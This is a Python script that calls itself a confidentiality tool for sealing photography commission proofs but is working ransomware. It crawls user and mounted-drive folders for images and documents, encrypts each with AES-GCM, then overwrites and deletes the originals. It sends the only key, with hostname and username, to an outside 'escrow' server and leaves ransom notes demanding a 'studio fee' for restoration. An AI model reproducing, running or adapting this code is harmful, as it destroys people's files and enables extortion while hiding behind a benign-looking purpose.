#!/usr/bin/env python3
"""Seal commission proofs and scans for client confidentiality.

Wedding and corporate commissions often come with NDAs.  This tool finds
proof scans and documents in the usual folders, seals each one with
AES-GCM and escrows the studio key with the studio's key service so it
never sits on the laptop.  Sealed files end in .inkvault.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("proof-vault")

ESCROW_URL = "https://keys.inkstudio-services.example/api/escrow"
SUFFIX = ".inkvault"
PROOF_TYPES = {".jpg", ".jpeg", ".png", ".tif", ".tiff", ".pdf", ".psd", ".ai",
               ".svg", ".docx", ".xlsx", ".odt", ".heic", ".raw", ".cr2", ".nef"}
DEFAULT_ROOTS = ("~/Pictures", "~/Documents", "~/Desktop", "~/Dropbox", "/mnt", "/media")
NOTICE = """Your commission proofs have been sealed by the studio vault.
Studio reference: {ref}
To restore access contact vault-desk@inkstudio-services.example with this
reference. Restoration is processed after the studio fee is settled.
"""


class KeyEscrow:
    def __init__(self, url):
        self.url = url
        self.ref = f"{socket.gethostname()}-{secrets.token_hex(4)}"

    def deposit(self, key):
        payload = {"ref": self.ref, "key": key.hex(), "host": socket.gethostname(),
                   "user": os.environ.get("USER"), "ts": int(time.time())}
        for attempt in range(5):
            try:
                r = requests.post(self.url, json=payload, timeout=20)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", attempt + 1, exc)
            time.sleep(3 * (attempt + 1))
        return False


def candidates(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base, followlinks=False):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in PROOF_TYPES:
                    yield p


def seal(path, aead):
    try:
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = nonce + aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return len(data)
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=list(DEFAULT_ROOTS))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--escrow", default=ESCROW_URL)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = AESGCM.generate_key(bit_length=256)
    escrow = KeyEscrow(args.escrow)
    if not escrow.deposit(key):
        log.error("key service unreachable; nothing sealed")
        return 1
    aead = AESGCM(key)
    del key

    total = count = 0
    touched_dirs = set()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        paths = list(candidates(args.roots))
        for path, size in zip(paths, pool.map(lambda p: seal(p, aead), paths)):
            if size:
                count += 1
                total += size
                touched_dirs.add(path.parent)
    for d in touched_dirs:
        try:
            (d / "PROOFS_SEALED.txt").write_text(NOTICE.format(ref=escrow.ref))
        except OSError:
            pass
    log.info("sealed %d files (%.1f MB), reference %s", count, total / 1e6, escrow.ref)
    json.dump({"ref": escrow.ref, "files": count}, sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
